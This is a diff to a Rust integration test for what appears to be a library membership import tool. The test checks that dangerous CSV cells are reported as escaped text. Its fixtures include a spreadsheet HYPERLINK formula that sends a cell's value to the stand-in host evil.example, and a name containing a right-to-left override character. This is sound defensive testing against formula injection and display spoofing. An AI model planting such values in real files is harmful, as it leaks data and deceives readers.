@@ -1211,12 +1211,13 @@ async fn of_three_cards_in_one_account_those_whose_person_changed_stay_there_and
 }
 
 #[tokio::test]
-async fn a_cell_a_spreadsheet_would_run_as_a_formula_is_reported_as_text() {
+async fn a_cell_a_spreadsheet_would_run_as_a_formula_or_show_as_another_is_reported_as_text() {
     let app = spawn_app().await;
     libraries(&app).await;
     let file = export_of(
         "DRE01,20000000000001,5280,\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"klik\"\")\",,een@example.nl,Een Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
-         DRE01,20000000000002,5280,-jan_,,,Twee Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n",
+         DRE01,20000000000002,5280,-jan_,,,Twee Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n\
+         DRE01,20000000000003,5280,nimda\u{202e}\u{200b},,drie@example.nl,Drie Lid,1982-04-03,VOLWASSEN,2027-05-31,2024-06-01\n",
     );
     let files = vec![file.path().to_owned()];
     let reports = tempfile::tempdir().unwrap();
@@ -1226,13 +1227,23 @@ async fn a_cell_a_spreadsheet_would_run_as_a_formula_is_reported_as_text() {
 
     assert_eq!(
         read_csv(reports.path().join("renamed.csv")),
-        vec![vec![
-            "DRE01",
-            "20000000000001",
-            "'=HYPERLINK(\"https://evil.example/?\"&B2,\"klik\")",
-            "20000000000001",
-            "not_allowed"
-        ]]
+        vec![
+            vec![
+                "DRE01",
+                "20000000000001",
+                "'=HYPERLINK(\"https://evil.example/?\"&B2,\"klik\")",
+                "20000000000001",
+                "not_allowed"
+            ],
+            vec![
+                "DRE01",
+                "20000000000003",
+                // Shown as written, not reversed and joined in the spreadsheet.
+                "nimda\\u{202e}\\u{200b}",
+                "20000000000003",
+                "not_allowed"
+            ]
+        ]
     );
     assert_eq!(
         read_csv(reports.path().join("no_email.csv")),
